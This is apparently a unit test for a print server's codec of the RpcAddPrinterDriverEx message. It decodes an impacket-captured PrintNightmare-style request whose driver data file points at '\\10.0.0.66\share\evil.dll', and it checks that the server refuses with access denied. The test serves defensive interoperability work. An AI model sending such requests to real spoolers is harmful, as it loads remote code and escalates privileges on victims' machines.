/**
 * RpcAddPrinterDriverEx (opnum 89), [MS-RPRN] 3.1.4.4.8. Request: impacket 0.10 (rprn.py) hRpcAddPrinterDriverEx
 * with the PrintNightmare-style paths of tests/interop/rpc/impacket-rprn.py, captured on loopback
 * (its referent ids and pad filler are its own, so the bytes are checked by decoding); response:
 * pointprint's refusal.
 */
import { RpcAddPrinterDriverEx } from '../../../../../lib/rpc/rprn/messages/add-printer-driver-ex';
import { hex } from '../../../../helpers/hex';
import { expectRequest, expectResponse } from './message-fixture';

describe('RpcAddPrinterDriverEx', () => {
  it('request: impacket, a DRIVER_INFO_2', () => {
    expectRequest(
      RpcAddPrinterDriverEx,
      hex(`
      79700000                                                                # pName: referent id (impacket picks its own)
      0c000000 00000000 0c000000                                              # pName: max_count 12, offset 0, actual_count 12
      5c005c00 31003200 37002e00 30002e00 30002e00 31000000                   # "\\\\127.0.0.1" + NUL
      02000000                                                                # DRIVER_CONTAINER.Level 2
      02000000                                                                # union tag 2
      c8630000                                                                # -> DRIVER_INFO_2: referent id
      03000000                                                                # cVersion 3
      76130000                                                                # pName: referent id
      06fa0000                                                                # pEnvironment: referent id
      f9830000                                                                # pDriverPath: referent id
      d8450000                                                                # pDataFile: referent id
      0d540000                                                                # pConfigFile: referent id
      05000000 00000000 05000000                                              # pName: max_count 5, offset 0, actual_count 5
      45007600 69006c00 0000                                                  # "Evil" + NUL
      abab                                                                    # pad to 4 (filler ab)
      0c000000 00000000 0c000000                                              # pEnvironment: max_count 12, offset 0, actual_count 12
      57006900 6e006400 6f007700 73002000 78003600 34000000                   # "Windows x64" + NUL
      52000000 00000000 52000000                                              # pDriverPath: max_count 82, offset 0, actual_count 82
      43003a00 5c005700 69006e00 64006f00 77007300 5c005300 79007300 74006500 # "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL" + NUL
      6d003300 32005c00 44007200 69007600 65007200 53007400 6f007200 65005c00
      46006900 6c006500 52006500 70006f00 73006900 74006f00 72007900 5c006e00
      74007000 72006900 6e007400 2e006900 6e006600 5f006100 6d006400 36003400
      5c004100 6d006400 36003400 5c005500 4e004900 44005200 56002e00 44004c00
      4c000000
      1b000000 00000000 1b000000                                              # pDataFile: max_count 27, offset 0, actual_count 27
      5c005c00 31003000 2e003000 2e003000 2e003600 36005c00 73006800 61007200 # "\\\\10.0.0.66\\share\\evil.dll" + NUL
      65005c00 65007600 69006c00 2e006400 6c006c00 0000
      abab                                                                    # pad to 4 (filler ab)
      23000000 00000000 23000000                                              # pConfigFile: max_count 35, offset 0, actual_count 35
      43003a00 5c005700 69006e00 64006f00 77007300 5c005300 79007300 74006500 # "C:\\Windows\\System32\\kernelbase.dll" + NUL
      6d003300 32005c00 6b006500 72006e00 65006c00 62006100 73006500 2e006400
      6c006c00 0000
      bfbf                                                                    # pad to 4 (filler bf)
      14800000                                                                # dwFileCopyFlags: APD_COPY_ALL_FILES | APD_COPY_FROM_DIRECTORY | APD_INSTALL_WARNED_DRIVER
      `),
      {
        name: '\\\\127.0.0.1',
        driverContainer: {
          level: 2,
          info: {
            cVersion: 3,
            pName: 'Evil',
            pEnvironment: 'Windows x64',
            pDriverPath: 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL',
            pDataFile: '\\\\10.0.0.66\\share\\evil.dll',
            pConfigFile: 'C:\\Windows\\System32\\kernelbase.dll',
          },
        },
        fileCopyFlags: 0x8014,
      },
      { exact: false },
    );
  });
  it('response: ERROR_ACCESS_DENIED', () => {
    expectResponse(
      RpcAddPrinterDriverEx,
      hex(`
      05000000                                                                # status ERROR_ACCESS_DENIED
      `),
      { status: 5 },
    );
  });
});
